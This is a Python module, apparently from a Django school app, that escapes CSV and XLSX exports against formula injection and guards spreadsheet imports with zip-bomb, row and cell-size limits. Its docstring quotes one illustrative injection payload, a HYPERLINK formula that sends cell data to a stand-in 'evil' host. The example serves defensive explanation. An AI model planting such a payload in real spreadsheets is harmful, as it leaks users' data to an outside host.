"""Spreadsheet files in and out, safely, for every app.

Exports: a cell that starts with = + - @ (or a tab / carriage return) is a formula
to Excel, LibreOffice and Google Sheets, so a student named
``=HYPERLINK("http://evil/?"&A1)`` would run in the teacher's spreadsheet. CSV
cells get a leading apostrophe (OWASP's advice); XLSX cells are written as
typed text with Excel's quote prefix, so the value is kept exactly and never
evaluated.

Imports: size, archive expansion and sheet dimensions are checked before any
parsing; rows are streamed (openpyxl read-only, the csv module) and capped.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Iterator, Sequence

from django.utils.translation import gettext as _

from .errors import ApplicationError

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cell_is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_safe(value: object) -> object:
    """The value as a CSV cell that no spreadsheet evaluates."""
    if cell_is_formula_like(value):
        return "'" + value  # type: ignore[operator]
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a BOM, so that Excel opens Chinese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([csv_safe(v) for v in header])
    for row in rows:
        writer.writerow([csv_safe("" if v is None else v) for v in row])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], *, sheet: str = "Sheet1") -> bytes:
    """An XLSX whose string cells are all typed text: nothing is stored as a formula."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    for row in [header, *rows]:
        cells = []
        for value in row:
            from openpyxl.cell import WriteOnlyCell

            cell = WriteOnlyCell(worksheet, value="" if value is None else value)
            if isinstance(value, str):
                cell.data_type = TYPE_STRING  # openpyxl would store "=…" as a formula
                if cell_is_formula_like(value):
                    cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
            cells.append(cell)
        worksheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- Reading -------------------------------------------------------------------

# An XLSX is a zip: a few KB can expand to gigabytes (one 300 MB shared string
# peaked at 3 GB of memory). Refuse before openpyxl reads anything.
MAX_XLSX_EXPANDED_BYTES = 40 * 1024 * 1024
MAX_XLSX_RATIO = 200
MAX_COLUMNS = 30
MAX_CELL_CHARS = 500


def _too_many_rows(max_rows: int) -> ApplicationError:
    return ApplicationError(
        _("The file has more than %(limit)s data rows; split it into smaller files.") % {"limit": f"{max_rows:,}"},
        code="file_too_many_rows",
    )


def _xlsx_check_archive(data: bytes) -> None:
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
        members = archive.infolist()
    except (zipfile.BadZipFile, ValueError, OSError):
        raise ApplicationError(_("The file is not a valid XLSX workbook."), code="file_unreadable") from None
    expanded = sum(m.file_size for m in members)
    compressed = sum(m.compress_size for m in members) or 1
    if expanded > MAX_XLSX_EXPANDED_BYTES or expanded / compressed > MAX_XLSX_RATIO and expanded > 1024 * 1024:
        raise ApplicationError(
            _("The workbook expands to %(size)s MB when opened; the limit is %(limit)s MB.")
            % {"size": f"{expanded / 1048576:.0f}", "limit": f"{MAX_XLSX_EXPANDED_BYTES / 1048576:.0f}"},
            code="file_too_large",
        )


def _cell_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)  # spreadsheets turn student numbers into floats
    text = str(value)
    if len(text) > MAX_CELL_CHARS:
        raise ApplicationError(_("A cell holds more than %(limit)d characters.") % {"limit": MAX_CELL_CHARS},
                               code="file_cell_too_long")
    return text


def xlsx_rows(data: bytes, *, max_rows: int) -> Iterator[list[str]]:
    """The first sheet's rows as text (header first), streamed and capped."""
    _xlsx_check_archive(data)
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception:  # noqa: BLE001 - openpyxl raises many types for a bad file; none is the server's fault
        raise ApplicationError(_("The file is not a valid XLSX workbook."), code="file_unreadable") from None
    try:
        worksheet = workbook.worksheets[0] if workbook.worksheets else None
        if worksheet is None:
            raise ApplicationError(_("The workbook has no sheet."), code="file_unreadable")
        # The declared dimension first (free); the streaming cap below catches a sheet that lies about it.
        declared_rows = worksheet.max_row if isinstance(worksheet.max_row, int) else None
        if declared_rows is not None and declared_rows > max_rows + 1:
            raise _too_many_rows(max_rows)
        count = 0
        try:
            for row in worksheet.iter_rows(values_only=True, max_col=MAX_COLUMNS):
                count += 1
                if count > max_rows + 1:
                    raise _too_many_rows(max_rows)
                yield [_cell_text(v) for v in row]
        except ApplicationError:
            raise
        except Exception:  # noqa: BLE001 - a corrupt sheet part; never echo the library's text
            raise ApplicationError(_("The file is not a valid XLSX workbook."), code="file_unreadable") from None
    finally:
        workbook.close()


def csv_rows(data: bytes, *, max_rows: int) -> Iterator[list[str]]:
    """CSV rows as text (header first), streamed and capped. UTF-8 (with or without a BOM) or UTF-16."""
    try:
        text = data.decode("utf-16") if data.startswith((b"\xff\xfe", b"\xfe\xff")) else data.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise ApplicationError(_("The CSV file must be UTF-8 encoded."), code="file_encoding") from None
    reader = csv.reader(io.StringIO(text, newline=""), skipinitialspace=True)
    count = 0
    try:
        for row in reader:
            count += 1
            if count > max_rows + 1:
                raise _too_many_rows(max_rows)
            if len(row) > MAX_COLUMNS:
                row = row[:MAX_COLUMNS]
            yield [_cell_text(v) for v in row]
    except csv.Error:
        raise ApplicationError(_("The CSV file is malformed (row %(row)d).") % {"row": count + 1},
                               code="file_unreadable") from None
